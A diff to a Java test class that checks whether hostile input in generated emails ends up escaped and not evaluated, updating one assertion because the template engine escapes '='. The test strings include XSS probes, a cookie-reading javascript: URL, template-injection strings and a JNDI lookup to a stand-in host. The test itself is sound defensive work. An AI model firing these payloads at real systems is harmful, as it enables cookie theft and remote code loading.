@@ -149,7 +149,9 @@ class HostileInputTest {
             // positive controls: the hostile text is there, escaped and not evaluated
             String allHtml = emails.stream().map(m -> MailChecks.part(m, "text/html")).collect(Collectors.joining("\n"));
             String allText = emails.stream().map(m -> MailChecks.part(m, "text/plain")).collect(Collectors.joining("\n"));
-            softly.assertThat(allHtml).contains("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;",
+            // the template engine escapes "=" too
+            softly.assertThat(allHtml).contains("&lt;script&gt;alert(1)&lt;/script&gt;",
+                    "&lt;img src&#61;x onerror&#61;alert(1)&gt;",
                     "javascript:alert(document.cookie)");
             softly.assertThat(allText).contains("{{mail.password}}", "${exchangeProperty.watch}", "${jndi:ldap://evil.test/a}");
 
